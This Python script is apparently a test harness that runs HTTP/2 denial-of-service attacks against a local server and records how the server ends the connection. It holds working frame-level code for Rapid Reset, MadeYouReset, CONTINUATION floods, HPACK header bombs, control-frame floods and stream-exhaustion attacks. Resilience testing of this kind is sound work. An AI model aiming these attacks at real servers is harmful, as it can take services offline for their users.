"""Attacks on an HTTP/2 server, frame by frame: `http2.py NAME PORT PATH`.

Sends what the attack sends for as long as the server takes it, at most SECONDS, and writes one line of JSON:
how the server ended the connection (`goaway`: its error code, `closed`: within PATIENCE), the statuses that
it answered, and how much was sent.
"""

import itertools
import json
import socket
import struct
import sys
import threading
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

# How long an attack lasts that the server does not end, and how long it then has to end the connection.
SECONDS = 1
PATIENCE = 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8


def head(path, method="GET"):
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "a")]
    if method == "POST":
        fields += [("content-type", "application/grpc"), ("te", "trailers")]
    return fields


def headers(stream, block, flags):
    frame = HeadersFrame(stream, data=block, flags=flags)
    return frame.serialize()


WHOLE = ["END_HEADERS", "END_STREAM"]
OPEN = ["END_HEADERS"]


class Attacks:
    """Each gives what is sent, piece by piece."""

    def __init__(self, path, method):
        self.block = hpack.Encoder().encode(head(path, method), huffman=False)
        # The first may add to the table; what repeats it must decode the same each time.
        self.encoder = hpack.Encoder()
        self.path = path
        self.method = method

    def streams(self):
        return itertools.count(1, 2)

    def request(self, stream, flags=WHOLE):
        return headers(stream, self.encoder.encode(head(self.path, self.method)), flags)

    def rapid_reset(self):
        """CVE-2023-44487."""
        for stream in self.streams():
            yield self.request(stream) + RstStreamFrame(stream, error_code=CANCEL).serialize()

    def made_you_reset(self):
        """CVE-2025-8671: the server is made to reset, by a window that overflows."""
        for stream in self.streams():
            update = WindowUpdateFrame(stream, window_increment=2**31 - 1)
            yield self.request(stream, OPEN) + update.serialize()

    def continuation_flood(self):
        """CVE-2024-27316 and its like: a head that never ends."""
        yield headers(1, self.block, ["END_STREAM"])
        piece = hpack.Encoder().encode([("x-junk", "j" * 100)], huffman=False)
        for _ in itertools.count():
            yield ContinuationFrame(1, data=piece).serialize()

    def empty_continuations(self):
        yield headers(1, self.block, ["END_STREAM"])
        for _ in itertools.count():
            yield ContinuationFrame(1, data=b"").serialize()

    def header_bomb(self):
        """One long field in the table, named thousands of times by a byte each."""
        for stream in self.streams():
            bomb = self.encoder.encode(head(self.path, self.method) + [("x-bomb", "b" * 3000)])
            yield headers(stream, bomb + b"\xbe" * 12000, WHOLE)

    def huge_headers(self):
        for stream in self.streams():
            block = hpack.Encoder().encode(head(self.path, self.method), huffman=False)
            block += b"".join(b"\x10\x05x-%03d\x7f\xe9\x06" % n + b"v" * 1000 for n in range(200))
            pieces = [block[at : at + 16000] for at in range(0, len(block), 16000)]
            sent = headers(stream, pieces[0], ["END_STREAM"])
            for piece in pieces[1:-1]:
                sent += ContinuationFrame(stream, data=piece).serialize()
            yield sent + ContinuationFrame(stream, data=pieces[-1], flags=["END_HEADERS"]).serialize()

    def ping_flood(self):
        yield self.request(1)
        for count in itertools.count():
            yield PingFrame(0, opaque_data=struct.pack("!Q", count)).serialize() * 50

    def settings_flood(self):
        yield self.request(1)
        for count in itertools.count():
            frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535 - count % 2})
            yield frame.serialize() * 50

    def window_update_flood(self):
        """One octet at a time, so that the window never overflows."""
        yield self.request(1)
        for _ in itertools.count():
            yield WindowUpdateFrame(0, window_increment=1).serialize() * 50

    def priority_flood(self):
        """Deprecated (RFC 9113 §5.3), and read all the same."""
        yield self.request(1)
        for _ in itertools.count():
            yield PriorityFrame(1, depends_on=0, stream_weight=1).serialize() * 50

    def empty_data(self):
        yield self.request(1, OPEN)
        for _ in itertools.count():
            yield DataFrame(1, data=b"").serialize() * 50

    def zero_window(self):
        """Answers are asked for and never taken."""
        yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
        for stream in itertools.islice(self.streams(), 200):
            yield self.request(stream)
        while True:
            time.sleep(0.1)
            yield b""

    def unfinished_bodies(self):
        """Every stream that the server allows, each with a message that never comes."""
        for stream in itertools.islice(self.streams(), 2000):
            yield self.request(stream, OPEN)
        while True:
            time.sleep(0.1)
            yield b""


class Reader(threading.Thread):
    def __init__(self, connection):
        super().__init__(daemon=True)
        # An object of its own, with a timeout of its own.
        self.connection = connection.dup()
        self.connection.settimeout(SECONDS + PATIENCE)
        self.goaway = None
        self.ended = False
        self.statuses = {}

    def run(self):
        decoder = hpack.Decoder()
        data = b""
        try:
            while True:
                more = self.connection.recv(65536)
                if not more:
                    break
                data += more
                while len(data) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(data[:9]))
                    if len(data) < 9 + length:
                        break
                    body, data = data[9 : 9 + length], data[9 + length :]
                    if isinstance(frame, GoAwayFrame):
                        frame.parse_body(memoryview(body))
                        self.goaway = frame.error_code
                    elif isinstance(frame, HeadersFrame):
                        frame.parse_body(memoryview(body))
                        for name, value in decoder.decode(frame.data):
                            if name == ":status":
                                self.statuses[value] = self.statuses.get(value, 0) + 1
        except TimeoutError:
            return
        except OSError:
            pass
        self.ended = True


def main():
    name, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    method = "POST" if path.startswith("/envoy") else "GET"
    connection = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)
    reader = Reader(connection)
    reader.start()
    began = time.monotonic()
    sent = 0
    try:
        connection.sendall(PREFACE + SettingsFrame(0).serialize())
        for piece in getattr(Attacks(path, method), name)():
            left = SECONDS - (time.monotonic() - began)
            if left <= 0 or reader.ended:
                break
            # A server that reads no more is not waited for.
            connection.settimeout(left)
            connection.sendall(piece)
            sent += len(piece)
    except OSError:
        pass
    reader.join(PATIENCE)
    print(
        json.dumps(
            {
                "goaway": reader.goaway,
                "closed": reader.ended,
                "statuses": reader.statuses,
                "sent": sent,
                "seconds": round(time.monotonic() - began, 2),
            }
        )
    )


main()
